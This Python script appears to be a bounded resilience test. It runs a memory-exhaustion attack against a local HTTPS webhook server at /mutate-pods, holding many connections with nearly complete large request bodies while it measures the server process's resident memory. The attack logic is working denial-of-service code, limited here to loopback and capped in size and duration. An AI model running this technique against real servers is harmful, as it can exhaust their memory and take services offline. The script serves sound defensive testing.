#!/usr/bin/env python3
"""memory_attack.py: the memory attack on an HTTPS server of dagsched, on loopback only.

CONNS TLS connections each send a POST whose Content-Length is BODY bytes, then all of the body
but its last byte, and hold the connection open for HOLD seconds: a server that buffers every
request until it is complete would hold CONNS x BODY bytes. Meanwhile the resident memory of the
server's process (PID) is sampled every 50 ms. Bounded: at most CONNS connections, each sending at
most BODY bytes, for at most HOLD + 30 seconds in all.

Prints one line: connections, how many the server answered (by status) or closed, the bytes sent,
the resident memory before and at its peak. Exit 0 unless the attack could not be carried out.

Usage: memory_attack.py --port P --path /mutate-pods --conns 16 --body 62914560 --ca CA --pid PID
       (--plain instead of --ca for a plain HTTP server)
"""
import argparse
import socket
import ssl
import sys
import threading
import time

CHUNK = 64 * 1024


def rss_kb(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


class Conn(threading.Thread):
    def __init__(self, a, ctx, stop):
        super().__init__(daemon=True)
        self.a, self.ctx, self.stop = a, ctx, stop
        self.sent = 0
        self.status = None  # the server's answer, or "closed", "error"

    def run(self):
        a = self.a
        try:
            raw = socket.create_connection(("127.0.0.1", a.port), timeout=10)
            s = self.ctx.wrap_socket(raw, server_hostname="localhost") if self.ctx else raw
        except OSError:
            self.status = "error"
            return
        try:
            head = (f"POST {a.path} HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\n"
                    f"Content-Length: {a.body}\r\n\r\n").encode()
            s.sendall(head)
            chunk = b" " * CHUNK
            left = a.body - 1
            s.settimeout(0.0)
            while left > 0 and not self.stop.is_set():
                n = min(left, CHUNK)
                try:
                    s.settimeout(5)
                    s.sendall(chunk[:n])
                except (OSError, ssl.SSLError):
                    break
                left -= n
                self.sent += n
                if self.answered(s):
                    return
            # Hold until told to stop, noting an answer or a close.
            while not self.stop.is_set():
                if self.answered(s):
                    return
                time.sleep(0.05)
        finally:
            try:
                s.close()
            except OSError:
                pass

    def answered(self, s):
        """True once the server answered or closed (recorded in status)."""
        try:
            s.settimeout(0.0)
            data = s.recv(4096)
        except (ssl.SSLWantReadError, BlockingIOError):
            return False
        except socket.timeout:
            return False
        except (OSError, ssl.SSLError):
            self.status = "closed"
            return True
        if not data:
            self.status = "closed"
        elif data.startswith(b"HTTP/1.1 "):
            self.status = data[9:12].decode("ascii", "replace")
        else:
            self.status = "other"
        return True


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--path", default="/mutate-pods")
    ap.add_argument("--conns", type=int, default=16)
    ap.add_argument("--body", type=int, default=60 << 20)
    ap.add_argument("--ca", help="the server's CA (HTTPS)")
    ap.add_argument("--plain", action="store_true", help="plain HTTP")
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--hold", type=float, default=5.0)
    a = ap.parse_args()
    if not 1 <= a.conns <= 1024 or not 1 <= a.body <= (1 << 30):
        print("memory-attack: --conns 1..1024, --body 1..1073741824", file=sys.stderr)
        return 2
    if a.plain == (a.ca is not None):
        print("memory-attack: give --ca (HTTPS) or --plain", file=sys.stderr)
        return 2
    ctx = None
    if not a.plain:
        ctx = ssl.create_default_context(cafile=a.ca)
        ctx.check_hostname = False
    before = rss_kb(a.pid)
    stop = threading.Event()
    conns = [Conn(a, ctx, stop) for _ in range(a.conns)]
    for c in conns:
        c.start()
    peak = before
    deadline = time.monotonic() + a.hold + 25
    hold_until = None
    while time.monotonic() < deadline:
        peak = max(peak, rss_kb(a.pid))
        busy = [c for c in conns if c.is_alive() and c.status is None and c.sent < a.body - 1]
        if not busy and hold_until is None:
            hold_until = time.monotonic() + a.hold
        if hold_until is not None and time.monotonic() >= hold_until:
            break
        time.sleep(0.05)
    stop.set()
    for c in conns:
        c.join(timeout=5)
    after = rss_kb(a.pid)
    by = {}
    for c in conns:
        k = c.status or "held"
        by[k] = by.get(k, 0) + 1
    answers = ", ".join(f"{v} {k}" for k, v in sorted(by.items()))
    sent = sum(c.sent for c in conns)
    print(f"{a.conns} connections x {a.body} bytes to {a.path}: {answers}; "
          f"{sent >> 20} MiB sent; RSS {before >> 10} MiB before, peak {peak >> 10} MiB, "
          f"{after >> 10} MiB after; peak_kb={peak}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
